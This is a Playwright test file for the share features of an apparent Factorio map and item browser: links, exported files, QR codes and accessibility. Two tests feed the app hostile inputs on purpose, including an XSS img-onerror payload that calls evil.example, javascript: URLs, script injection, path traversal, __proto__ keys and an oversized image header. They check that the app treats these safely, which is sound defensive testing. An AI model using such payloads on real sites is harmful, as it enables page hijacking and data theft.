/** Each way to share, opened by somebody else: in a browser that has nothing yet. */
import { readFileSync } from 'node:fs';
import AxeBuilder from '@axe-core/playwright';
import type { Browser, BrowserContext, Page } from '@playwright/test';
import { generate } from 'lean-qr';
import { encodePage } from '../src/core/link/link';
import type { Page as PrototypePage } from '../src/core/prototype/types';
import { drop, holdWorkers, killWorkers, problemsOf, worldsOf } from './app';
import { expect, idle, test, watchFaults } from './fixtures';
import { openSample as openPack, openThing } from './items-page';
import { goTo, openSample, param } from './map-page';

const LOG = 'e2e/samples/factoscope-log/factorio-current.log';
const SHORT = 1_900;
const LONG = 16_384;

/** axe brings types of a Playwright of its own. */
const axe = (page: Page) => new AxeBuilder({ page: page as unknown as ConstructorParameters<typeof AxeBuilder>[0]['page'] });

/** Tiles of the map at zoom 0, 0xAARRGGBB, row by row; 0 where nothing is drawn. */
async function tilesOf(page: Page, area: [number, number, number, number]): Promise<number[]> {
  const [x, y, z] = await Promise.all(['x', 'y', 'z'].map(async (name) => Number(await param(page, name))));
  expect(z).toBe(0);
  return page.evaluate(
    ({ centre: [cx, cy], area: [x0, y0, x1, y1] }) => {
      const tiles = new Array<number>((x1 - x0) * (y1 - y0)).fill(0);
      const map = document.querySelector('.map')!.getBoundingClientRect();
      for (const canvas of document.querySelectorAll<HTMLCanvasElement>('.raster')) {
        const box = canvas.getBoundingClientRect();
        if (box.width === 0 || canvas.width !== 256) continue;
        const copy = new OffscreenCanvas(256, 256).getContext('2d')!;
        copy.drawImage(canvas, 0, 0);
        const { data } = copy.getImageData(0, 0, 256, 256);
        // Rasters lie at multiples of 256 tiles.
        const left = Math.round((cx + box.left - map.left - map.width / 2) / 256) * 256;
        const top = Math.round((cy + box.top - map.top - map.height / 2) / 256) * 256;
        for (let i = 0; i < 65_536; i++) {
          const [tx, ty] = [left + (i % 256), top + (i >> 8)];
          if (tx < x0 || ty < y0 || tx >= x1 || ty >= y1 || data[4 * i + 3] === 0) continue;
          tiles[(ty - y0) * (x1 - x0) + tx - x0] =
            ((data[4 * i + 3]! << 24) | (data[4 * i]! << 16) | (data[4 * i + 1]! << 8) | data[4 * i + 2]!) >>> 0;
        }
      }
      return tiles;
    },
    { centre: [x!, y!] as const, area },
  );
}

async function share(page: Page): Promise<void> {
  await page.getByRole('button', { name: 'Share', exact: true }).click();
  await page.getByRole('dialog', { name: 'Share' }).waitFor();
  await idle(page);
}

const viewLink = (page: Page): Promise<string> => page.getByRole('textbox', { name: 'Link to this view' }).inputValue();
const selfLink = (page: Page): Promise<string> => page.getByRole('textbox', { name: 'Link that holds what it shows' }).inputValue();

async function sized(page: Page, size: 'Short' | 'Long'): Promise<string> {
  await page.getByRole('radio', { name: size }).click();
  await idle(page);
  return selfLink(page);
}

/** A browser that has nothing yet, at an address. What goes wrong there fails the test. */
async function fresh(browser: Browser, link: string): Promise<{ page: Page; context: BrowserContext; faults: string[] }> {
  const context = await browser.newContext();
  const page = await context.newPage();
  const faults = await watchFaults(page);
  await page.goto(link);
  await idle(page);
  return { page, context, faults };
}

/**
 * All that a page of the item browser says, what is folded away on a wide screen too; without the letters that stand in the place of pictures.
 */
const said = (page: Page): Promise<string | null> =>
  page.locator('article.items__page').evaluate((article) => {
    const copy = article.cloneNode(true) as HTMLElement;
    for (const letters of copy.querySelectorAll('.pic--none')) letters.remove();
    return copy.textContent;
  });

test('a link to the view says what to drop where the world is not, and shows the same when that is dropped', async ({ page, browser }) => {
  await page.goto('');
  await idle(page);
  await drop(page, LOG);
  await idle(page);
  const [world] = await worldsOf(page);
  await goTo(page, `#/map/${world!.id}/nauvis?x=0&y=0&z=0&on=tags`);
  await share(page);
  await expect(page.getByRole('dialog')).toContainText('factorio-current.log');
  const link = await viewLink(page);
  expect(link).not.toContain('samples');

  const other = await fresh(browser, link);
  await expect(other.page.getByRole('main')).toContainText('Whoever shared it had it from factorio-current.log');
  await drop(other.page, LOG);
  await idle(other.page);
  const area = [-64, -64, 64, 64] as const;
  await page.keyboard.press('Escape');
  const tiles = await tilesOf(page, [...area]);
  expect(new Set(tiles).size).toBeGreaterThan(2);
  expect(await tilesOf(other.page, [...area])).toEqual(tiles);
  expect(other.faults).toEqual([]);
  await other.context.close();
});

for (const base of ['chart', 'terrain'] as const)
  test(`a piece of a map in a link is the same by pixel, ${base}: short and long`, async ({ page, browser }) => {
    await openSample(page, `x=0&y=0&z=0&base=${base}&on=${base === 'chart' ? 'tags,stops' : 'resources,buildings,tags,stops'}`);
    await share(page);
    const short = await sized(page, 'Short');
    const long = await sized(page, 'Long');
    expect(short.length).toBeLessThanOrEqual(SHORT);
    expect(long.length).toBeLessThanOrEqual(LONG);
    await expect(page.getByRole('dialog')).toContainText('6 × 6 chunks');
    await page.keyboard.press('Escape');
    const whole = await tilesOf(page, [-96, -96, 96, 96]);

    for (const link of [long, short]) {
      const other = await fresh(browser, link);
      expect(await problemsOf(other.page)).toEqual([]);
      expect(other.page.url()).toContain('#/map/link-');
      const [world] = await worldsOf(other.page);
      expect(world).toMatchObject({ name: 'Nordhafen (part)', players: [] });
      for (const tag of ['Iron', 'Kupfer']) await expect(other.page.locator('.map').getByText(tag, { exact: true })).toBeVisible();
      const tiles = await tilesOf(other.page, [-96, -96, 96, 96]);
      const known = tiles.flatMap((tile, i) => (tile === 0 ? [] : [i]));
      expect(known.map((i) => tiles[i])).toEqual(known.map((i) => whole[i]));
      if (link === long) expect(tiles).toEqual(whole);
      // The same link again is the same world, and Back does not lead into the link again.
      await goTo(other.page, `#${link.split('#')[1]}`);
      expect(await worldsOf(other.page)).toHaveLength(1);
      expect(other.page.url()).toContain('#/map/link-');
      expect(other.faults).toEqual([]);
      await other.context.close();
    }
  });

test('a page in a link says the same, with pictures where there is room for them', async ({ page, browser, context }) => {
  test.slow();
  const items = await openPack(context);
  for (const [kind, name] of [
    ['item', 'iron-plate'],
    ['technology', 'automation'],
    ['fluid', 'petroleum-gas'],
  ] as const) {
    await openThing(items, kind, name);
    const words = await said(items);
    await share(items);
    const long = await sized(items, 'Long');
    expect(long.length).toBeLessThanOrEqual(LONG);
    const pictured = await fresh(browser, long);
    expect(await said(pictured.page)).toBe(words);
    expect((await axe(pictured.page).analyze()).violations).toEqual([]);
    expect(await pictured.page.locator('article .pic[style*="blob:"]').count()).toBeGreaterThan(0);
    expect(pictured.faults).toEqual([]);
    await pictured.context.close();

    await items.getByRole('radio', { name: 'Short' }).click();
    await idle(items);
    const tooLong = await items.getByText('is the most. Send it as a file').count();
    if (tooLong === 0) {
      const short = await selfLink(items);
      expect(short.length).toBeLessThanOrEqual(SHORT);
      const plain = await fresh(browser, short);
      expect(await said(plain.page)).toBe(words);
      expect(await worldsOf(plain.page)).toEqual([]);
      expect(plain.faults).toEqual([]);
      await plain.context.close();
    } else expect(name).toBe('iron-plate');
    await items.keyboard.press('Escape');
  }
  await page.close();
});

test('a file holds nobody’s name unless it is ticked, and opens elsewhere', async ({ page, browser }) => {
  test.slow();
  await openSample(page, 'x=0&y=0&z=0&on=tags');
  const tiles = await tilesOf(page, [-96, -96, 96, 96]);
  const players = (await worldsOf(page))[0]!.players.map(({ name }) => name);
  for (const named of [false, true]) {
    await share(page);
    await page.getByRole('tab', { name: 'File' }).click();
    await page.getByRole('radio', { name: 'This moment' }).click();
    if (named) await page.getByRole('checkbox', { name: 'Names of players' }).click();
    const [file] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Save file' }).click()]);
    await idle(page);
    await expect(page.getByRole('status').filter({ hasText: file.suggestedFilename() })).toBeVisible();
    expect(file.suggestedFilename()).toMatch(/^Nordhafen.*\.zip$/);
    await page.keyboard.press('Escape');
    const path = test.info().outputPath(`${named}.zip`);
    await file.saveAs(path);
    expect(readFileSync(path).subarray(30, 40).toString()).toBe('factoscope');

    const other = await fresh(browser, './');
    await drop(other.page, path);
    await idle(other.page);
    const [world] = await worldsOf(other.page);
    const seen = world!.players.map(({ name }) => name);
    if (named) expect(seen).toEqual(players);
    else for (const name of seen) expect(name).toMatch(/^Player \d+$/);
    await goTo(other.page, `#/map/${world!.id}/nauvis?x=0&y=0&z=0&on=tags`);
    expect(await tilesOf(other.page, [-96, -96, 96, 96])).toEqual(tiles);
    expect(other.faults).toEqual([]);
    await other.context.close();
  }
});

test('a file that is cancelled, or whose worker dies, is none; the next one is whole and the world as it was', async ({ page }) => {
  await holdWorkers(page);
  await openSample(page, 'x=0&y=0&z=0');
  const before = await worldsOf(page);
  await share(page);
  await page.getByRole('tab', { name: 'File' }).click();
  const save = page.getByRole('button', { name: 'Save file' });
  await save.click();
  await page.getByRole('button', { name: 'Cancel' }).click();
  await expect(page.getByText('Cancelled. Nothing was changed.')).toBeVisible();
  await save.click();
  await page.getByRole('progressbar', { name: 'Putting the file together' }).waitFor();
  expect(await killWorkers(page, 'import.worker')).toBeGreaterThan(0);
  await expect(page.getByText('The file could not be made.')).toBeVisible();
  await Promise.all([page.waitForEvent('download'), save.click()]);
  await idle(page);
  expect(await worldsOf(page)).toEqual(before);
});

test('a link that is bent, cut or newer says so, and nothing of it is kept', async ({ page, browser, faults }) => {
  await openSample(page, 'x=0&y=0&z=0');
  await share(page);
  const link = await sized(page, 'Short');
  expect(faults).toEqual([]);
  for (const [bent, code] of [
    [link.slice(0, -40), 'link-damaged'],
    [link.replace('#/link/1.', '#/link/2.'), 'link-too-new'],
    [`${link.split('#')[0]}#/link/`, 'link-damaged'],
    [`${link}${'A'.repeat(LONG)}`, 'link-too-long'],
    [`${link.split('#')[0]}#/link/%00%22%3Cimg%20src=x%20onerror=alert(1)%3E`, 'link-damaged'],
  ] as const) {
    const other = await fresh(browser, bent);
    await expect(other.page.getByRole('main')).toContainText(code);
    if (code === 'link-too-new') expect((await axe(other.page).analyze()).violations).toEqual([]);
    expect(await worldsOf(other.page)).toEqual([]);
    expect(other.faults).toEqual([]);
    await other.context.close();
  }
});

test('a page that means harm is text, and a picture of a gigabyte is none', async ({ browser }) => {
  const evil = '<img src=x onerror="fetch(`//evil.example`)">';
  const ref = { kind: 'item' as const, name: `__proto__${evil}`, label: evil, picture: 0 };
  const page: PrototypePage = {
    ...{ ref, type: 'constructor', mod: 'javascript:alert(1)', description: `[img=item/${evil}]${evil}[gps=1,2]`, group: ref },
    ...{ names: [{ language: '"><script>', label: evil }], facts: [{ key: '__proto__', value: { type: 'text', text: evil } }] },
    ...{ recipes: [], machines: [], made: [], used: [], makes: [], technology: null, path: null, planets: [ref], missing: [evil] },
    ...{ related: [{ key: 'constructor', refs: [ref] }], copy: { rich: evil, command: 'javascript:alert(1)' } },
  };
  // Says of itself that it is 16,384 px square.
  const webp = Uint8Array.from('RIFF\x1e\0\0\0WEBPVP8L\x11\0\0\0\x2f\xff\xff\xff\x0f\0\0\0\0\0\0\0\0\0\0\0\0\0', (sign) =>
    sign.charCodeAt(0),
  );
  const pack = { id: `../../${evil}`, name: evil, game: evil, places: 9, mods: [evil] };
  const other = await fresh(browser, `./#/link/${encodePage({ pack, page }, { of: [ref], webp })}`);
  await expect(other.page.getByRole('heading', { level: 1 })).toHaveText(evil);
  expect(await other.page.locator('img[src="x"], script:not([src]), a[href^="javascript"]').count()).toBe(0);
  expect(await other.page.locator('.pic[style*="blob:"]').count()).toBe(0);
  expect(other.faults).toEqual([]);
  await other.context.close();
});

test('the device’s own sheet, the clipboard and a code for a camera get the very link', async ({ page, context }) => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
  await page.addInitScript(() => {
    const sent: unknown[] = [];
    Object.assign(window, { sent });
    Object.assign(navigator, {
      share: async ({ title, url, files }: ShareData) =>
        void sent.push({ title, url, files: files?.map(({ name, size }) => [name, size > 1024]) }),
      canShare: () => true,
    });
  });
  await openSample(page, 'x=0&y=0&z=0');
  await share(page);
  const section = page.getByRole('region', { name: 'That holds what it shows' });
  const link = await selfLink(page);
  await section.getByRole('button', { name: 'Copy' }).click();
  await expect(section.getByRole('button', { name: 'Copied' })).toBeVisible();
  expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(link);
  await section.getByRole('button', { name: 'Send …' }).click();
  await section.getByRole('button', { name: 'QR code' }).click();
  const canvas = section.getByRole('img', { name: /QR code/ });
  await expect(canvas).toBeVisible();
  const drawn = await canvas.evaluate((node) => {
    const { width, height } = node as HTMLCanvasElement;
    const { data } = (node as HTMLCanvasElement).getContext('2d')!.getImageData(0, 0, width, height);
    return { width, dark: Array.from({ length: width * height }, (_, i) => data[4 * i]! < 128 && data[4 * i + 3] === 255) };
  });
  const code = generate(link);
  expect(drawn.width).toBe(code.size + 8);
  expect(drawn.dark).toEqual(
    Array.from({ length: drawn.width ** 2 }, (_, i) => code.get((i % drawn.width) - 4, Math.floor(i / drawn.width) - 4)),
  );

  await page.getByRole('tab', { name: 'File' }).click();
  await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Save file' }).click()]);
  await idle(page);
  await page.getByRole('button', { name: 'Send file …' }).click();
  const sent = await page.evaluate(() => (window as unknown as { sent: unknown[] }).sent);
  expect(sent).toEqual([
    { title: 'Nordhafen', url: link },
    { title: 'Nordhafen', files: [['Nordhafen.zip', true]] },
  ]);
});

test('the dialog leads to the picture and the film, by keys alone, and has no barrier', async ({ page, faults }) => {
  await openSample(page, 'x=0&y=0&z=0');
  for (const [button, dialog] of [
    ['Picture of the map', 'Save a picture'],
    ['Film of the map', ''],
  ] as const) {
    await share(page);
    for (const tab of ['Link', 'File', 'Picture']) {
      await page.getByRole('tab', { name: tab }).focus();
      await page.keyboard.press('Enter');
      await idle(page);
      expect((await axe(page).include('dialog').analyze()).violations).toEqual([]);
    }
    await page.getByRole('button', { name: button }).press('Enter');
    await idle(page);
    await expect(page.getByRole('dialog')).toHaveCount(1);
    if (dialog !== '') await expect(page.getByRole('dialog', { name: 'Share' })).toHaveCount(0);
    await page.keyboard.press('Escape');
  }
  expect(faults).toEqual([]);
});
